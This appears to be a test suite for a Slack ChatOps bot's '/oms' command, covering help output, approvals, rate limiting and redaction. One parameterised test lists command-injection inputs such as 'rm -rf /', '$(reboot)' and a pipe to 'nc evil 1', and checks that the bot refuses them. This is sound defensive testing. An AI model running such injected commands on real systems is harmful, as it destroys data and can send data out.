import { SlackHarness } from '../helpers/fake-slack-harness.js';

/**
 * `/oms` through the real Bolt app and HTTP receiver: immediate ephemeral
 * answers, refusals, and a whole diagnosis (root message, live updates,
 * final report, thread details) on replayed captures.
 */
let h: SlackHarness;
afterEach(async () => {
  await h?.stop();
});

const SECRETS = ['EVuWdnct2NUwk9oKAAJK', 'nxcG0fXEWVsXKBOJWBPhDY26'];
const blocksText = (blocks: unknown) => JSON.stringify(blocks);

describe('/oms answers that need no server', () => {
  beforeEach(async () => {
    h = await SlackHarness.start();
  });

  it('help: ephemeral, lists verbs, playbooks and targets; nothing posted, nothing run', async () => {
    const r = await h.command('help');
    expect(r.status).toBe(200);
    const body = r.json() as { response_type: string; text: string; blocks: unknown[] };
    expect(body.response_type).toBe('ephemeral');
    expect(blocksText(body.blocks)).toContain('/oms diagnose');
    for (const id of ['login', 'api-not-found', 'service-start'])
      expect(blocksText(body.blocks)).toContain(`\`${id}\``);
    expect(blocksText(body.blocks)).toContain('`prod`');
    expect(body).toMatchSnapshot();
    await h.idle();
    expect(h.slack.calls).toEqual([]);
    expect(h.transports).toEqual([]);
  });

  it('an unknown verb falls through to intent matching; nothing matched → help with the valid playbooks', async () => {
    const r = await h.command('frobnicate the widgets');
    const body = r.json() as { response_type: string; text: string; blocks: unknown[] };
    expect(body.response_type).toBe('ephemeral');
    expect(body.text).toMatch(/no playbook matches "frobnicate the widgets"/);
    expect(blocksText(body.blocks)).toMatch(/Valid choices.*`login`.*`worker-sigterm`/);
    expect(blocksText(body.blocks)).toMatch(/Next/);
    await h.idle();
    expect(h.slack.calls).toEqual([]);
  });

  it('unknown target and unknown check get ephemeral help with the valid choices', async () => {
    const t = (await h.command('diagnose login prdo')).json() as { text: string; blocks: unknown[] };
    expect(t.text).toMatch(/unknown target or group "prdo"/);
    expect(blocksText(t.blocks)).toMatch(/`local`.*`prod`/);
    const c = (await h.command('check no-such-check')).json() as { text: string; blocks: unknown[] };
    expect(c.text).toMatch(/unknown check "no-such-check"/);
    expect(blocksText(c.blocks)).toContain('`backend-service`');
    const s = (await h.command('show nope')).json() as { text: string };
    expect(s.text).toMatch(/no playbook matches "nope"/);
    await h.idle();
    expect(h.slack.calls).toEqual([]);
    expect(h.transports).toEqual([]);
  });

  it.each([
    'diagnose login; rm -rf /',
    'diagnose $(reboot)',
    'check backend-service | nc evil 1',
    'login `id`',
    'diagnose login && curl x',
  ])('refuses shell metacharacters: %s', async (text) => {
    const body = (await h.command(text)).json() as { response_type: string; text: string };
    expect(body.response_type).toBe('ephemeral');
    expect(body.text).toMatch(/refused: the input contains shell characters/);
    expect(body.text).toMatch(/nothing was run/);
    await h.idle();
    expect(h.slack.calls).toEqual([]);
    expect(h.transports).toEqual([]);
  });

  it('list, targets and show answer ephemerally; show converts the playbook to mrkdwn', async () => {
    const list = (await h.command('list')).json() as { blocks: unknown[] };
    expect(blocksText(list.blocks)).toContain('`login`');
    const targets = (await h.command('targets')).json() as { blocks: unknown[] };
    expect(blocksText(targets.blocks)).toMatch(/`prod`.*omsbot@172\.29\.91\.61:22.*default/);
    const show = (await h.command('show login')).json() as { blocks: Array<{ type: string; text?: { text: string } }> };
    expect(show.blocks[0]!.type).toBe('header');
    const text = show.blocks.map((b) => b.text?.text ?? '').join('\n');
    expect(text).toContain('*手工排查 / Checking by hand*');
    expect(text.replace(/```[\s\S]*?```/g, '')).not.toMatch(/^#+ /m);
    expect(text).not.toContain('{#backend-down}');
  });

  it('audit and run go to the approvals feature: records to the asker, a card in the channel', async () => {
    await h.command('audit', { responseId: 'audit' });
    await h.idle();
    expect(String(h.slack.responses.find((x) => x.id === 'audit')!.body.text)).toMatch(/no audit records/);
    await h.command('run restart-backend --reason "backend down"', { responseId: 'run' });
    await h.idle();
    const card = h.slack.callsTo('chat.postMessage')[0]!;
    expect(card.body.channel).toBe('C0OPS');
    expect(JSON.stringify(card.body.blocks)).toContain('sudo -n /usr/bin/systemctl restart oms-backend');
    expect(JSON.stringify(card.body.blocks)).toContain('backend down');
    expect(h.transports).toEqual([]);
    const bad = (await h.command('run restart-backend')).json() as { text: string };
    expect(bad.text).toMatch(/run needs --reason/);
    expect(bad.text).toContain('`/oms run restart-backend --reason');
  });

  it('keyscan, sudoers and doctor are not offered in Slack: the answer says where to run them', async () => {
    for (const verb of ['keyscan prod', 'sudoers', 'doctor']) {
      const body = (await h.command(verb)).json() as { response_type: string; text: string };
      expect(body.response_type).toBe('ephemeral');
      expect(body.text).toMatch(/not offered in Slack — nothing was run/);
      expect(body.text).toContain(`oms-chatops ${verb.split(' ')[0]}`);
    }
    await h.idle();
    expect(h.slack.calls).toEqual([]);
  });

  it('version answers the package and Node versions and the config file, ephemerally', async () => {
    const body = (await h.command('version')).json() as { response_type: string; text: string; blocks: unknown[] };
    expect(body.response_type).toBe('ephemeral');
    expect(blocksText(body.blocks)).toContain(`node ${process.version}`);
    expect(blocksText(body.blocks)).toContain('test-config.yml');
  });

  it('user input echoed back is redacted', async () => {
    const body = (await h.command('diagnose DATABASE_PASSWORD=EVuWdnct2NUwk9oKAAJK')).json();
    const all = JSON.stringify(body);
    for (const s of SECRETS) expect(all).not.toContain(s);
    expect(all).toContain('«redacted»');
  });
});

describe('/oms diagnose: root message, live updates, final report, details in the thread', () => {
  it('posts, updates at most once a second, then the final report and the thread details (captured CORS failure)', async () => {
    h = await SlackHarness.start({ scenario: 'cors-missing-origin', delayMs: 150 });
    const r = await h.command('diagnose login prod', { user: 'U0ALICE' });
    expect(r.status).toBe(200);
    expect(r.body).toBe('');
    await h.idle();

    const posts = h.slack.callsTo('chat.postMessage');
    expect(posts.length).toBe(2);
    const root = posts[0]!;
    expect(root.body.channel).toBe('C0OPS');
    expect(root.body.thread_ts).toBeUndefined();
    expect(blocksText(root.body.blocks)).toMatch(/running/);
    expect(blocksText(root.body.blocks)).toContain('<@U0ALICE>');

    const updates = h.slack.callsTo('chat.update');
    expect(updates.length).toBeGreaterThanOrEqual(2);
    for (let i = 1; i < updates.length; i++) expect(updates[i]!.at - updates[i - 1]!.at).toBeGreaterThanOrEqual(950);
    const final = updates[updates.length - 1]!;
    const finalText = blocksText(final.body.blocks);
    expect(finalText).toMatch(/Verdict/);
    expect(finalText).toMatch(/Most likely root cause/);
    expect(finalText).toContain('CORS');
    expect(finalText).toContain('oms_rerun');
    expect(finalText).toContain('oms_show_playbook');
    expect(finalText).toContain('oms_share');
    expect(typeof final.body.text).toBe('string');
    expect((final.body.text as string).length).toBeGreaterThan(0);

    const details = posts[1]!;
    const rootTs = final.body.ts;
    expect(details.body.thread_ts).toBe(rootTs);
    expect(blocksText(details.body.blocks)).toMatch(/```/);

    for (const s of SECRETS) expect(h.slack.everythingSent()).not.toContain(s);
  });

  it('slash command where the bot is not a member: answers through response_url and explains /invite', async () => {
    h = await SlackHarness.start({ scenario: 'healthy' });
    h.slack.fail('chat.postMessage', 'not_in_channel', { channel: 'C0ELSEWHERE' });
    const r = await h.command('diagnose login', { channel: 'C0ELSEWHERE', responseId: 'nic' });
    expect(r.status).toBe(200);
    await h.idle();
    const answers = h.slack.responses.filter((x) => x.id === 'nic');
    expect(answers.length).toBe(2);
    expect(answers[0]!.body.response_type).toBe('ephemeral');
    expect(JSON.stringify(answers[0]!.body)).toContain('/invite @oms-chatops');
    expect(JSON.stringify(answers[1]!.body)).toMatch(/Verdict/);
    expect(h.slack.callsTo('chat.update')).toEqual([]);
  });

  it('rate limited (429 + Retry-After) on the root message: waits it out and posts', async () => {
    h = await SlackHarness.start({ scenario: 'healthy' });
    h.slack.rateLimit('chat.postMessage', 1, 1);
    const started = Date.now();
    await h.command('diagnose login');
    await h.idle();
    const posts = h.slack.callsTo('chat.postMessage');
    expect(posts.length).toBe(3); // refused once, then root, then details
    expect(posts[1]!.at - posts[0]!.at).toBeGreaterThanOrEqual(950);
    expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
    expect(h.slack.responses).toEqual([]);
  });

  it('rate limited for longer than it is worth waiting: the user is told clearly via response_url', async () => {
    h = await SlackHarness.start({ scenario: 'healthy' });
    h.slack.rateLimit('chat.postMessage', 120, 5);
    await h.command('diagnose login', { responseId: 'rl' });
    await h.idle();
    const answer = h.slack.responses.find((x) => x.id === 'rl');
    expect(answer).toBeDefined();
    expect(JSON.stringify(answer!.body)).toMatch(/rate-limiting the bot \(retry after 120 s\)/);
    expect(JSON.stringify(answer!.body)).toMatch(/wait a minute/);
    expect(JSON.stringify(answer!.body)).toMatch(/the diagnosis was not run/);
    expect(h.transports.flatMap((t) => (t as unknown as { calls: unknown[] }).calls)).toEqual([]);
  });
});
